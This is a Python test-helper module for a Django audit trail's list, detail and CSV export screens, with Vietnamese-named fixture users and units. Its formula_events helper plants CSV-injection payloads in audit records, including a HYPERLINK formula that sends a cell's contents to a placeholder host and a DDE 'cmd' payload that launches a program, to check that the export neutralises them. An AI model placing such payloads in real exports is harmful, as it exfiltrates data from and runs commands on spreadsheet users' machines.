"""The auditor's screens as the tests of the trail in words read them: a client in the site's
default language (Vietnamese, whatever the browser asks for later), the towns' people and units
given Vietnamese names, the CSV export read back with Python's csv module, and events whose texts
start with what a spreadsheet would run as a formula."""

import csv
import io

from django.test import Client
from django.urls import reverse

import workflow_project.urls  # noqa: F401 - the Site's URL names resolve once its URLs are built
from audit.services import audit_record
from tests.factories import Town, UnitFactory

LIST = reverse("audit:index")
EXPORT = reverse("audit:export")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def detail(event) -> str:
    return reverse("audit:event", args=[event.pk])


def auditor_client(user) -> Client:
    """``user`` signed in, asking for no language: the screens speak Vietnamese."""
    client = Client()
    client.force_login(user)
    return client


def shown(response) -> list[int]:
    assert response.status_code == 200
    return [event.pk for event in response.context["events"]]


def name_people(town: Town) -> None:
    """The people and units the name filters look for: the reviewer and the secretary share a
    family name, the submitter has another; the commune's name has accents."""
    for user, name in (
        (town.reviewer, "Nguyễn Văn Bình"),
        (town.secretary, "Nguyễn Thị Hoa"),
        (town.submitter, "Lò Thị Mai"),
    ):
        user.full_name = name
        user.save(update_fields=["full_name"])
    town.commune.name = "Xã Tả Van"
    town.commune.save(update_fields=["name"])


def csv_rows(response) -> list[list[str]]:
    """The export as a CSV reader gives it: UTF-8 with a byte-order mark, header first."""
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def csv_records(response) -> list[dict[str, str]]:
    header, *rows = csv_rows(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def formula_events() -> list:
    """One event for each character a spreadsheet starts a formula with, in every text the export
    writes from what was recorded: the user name, the unit (its code and a unit's name), the
    object's name, the comment, and before and after (as values and as objects)."""
    events = []
    for number, start in enumerate(FORMULA_STARTS):
        unit = UnitFactory(code=f"formula-{number}", name=f"{start}Đơn vị {number}")
        events.append(
            audit_record(
                action=f"{start}custom.action",
                obj=unit,
                stream=f"formula:{number}",
                actor_username=f"{start}someone",
                unit=unit.code,
                comment=f'{start}HYPERLINK("http://example.invalid/?q=" & A1, "Xem")',
                before=f"{start}1+1",
                after={"name": f"{start}cmd|' /C calc'!A0", "note": f"{start}2"},
            )
        )
        events.append(
            audit_record(
                action="config.changed",
                stream=f"formula:{number}",
                actor_username="quan-tri",
                unit=f"{start}not-a-unit",
                before=None,
                after=f"{start}SUM(A1:A9)",
            )
        )
    return events


def formula_dossier(town: Town, the_campaign, start: str):
    """A dossier whose nominee's name and position start with ``start``, edited, then withdrawn
    with a comment that starts with it too: events written by the services themselves."""
    from dossiers import services as dossier_services

    dossier = dossier_services.dossier_create(
        actor=town.submitter,
        campaign_id=the_campaign.pk,
        unit_id=town.commune.pk,
        award_form_id=the_campaign.award_forms.get(code__startswith="giay-khen").pk,
        nominee={"kind": "individual", "name": f"{start}Nguyễn Văn A", "position": f"{start}1"},
        evidence={"support_amount": 50_000_000},
    )
    dossier_services.dossier_update(
        dossier_id=dossier.pk,
        actor=town.submitter,
        fields={"summary": f"{start}tóm tắt"},
        nominee={"name": f"{start}B"},
    )
    dossier_services.dossier_withdraw(dossier_id=dossier.pk, actor=town.submitter, comment=f"{start}rút hồ sơ")
    return dossier
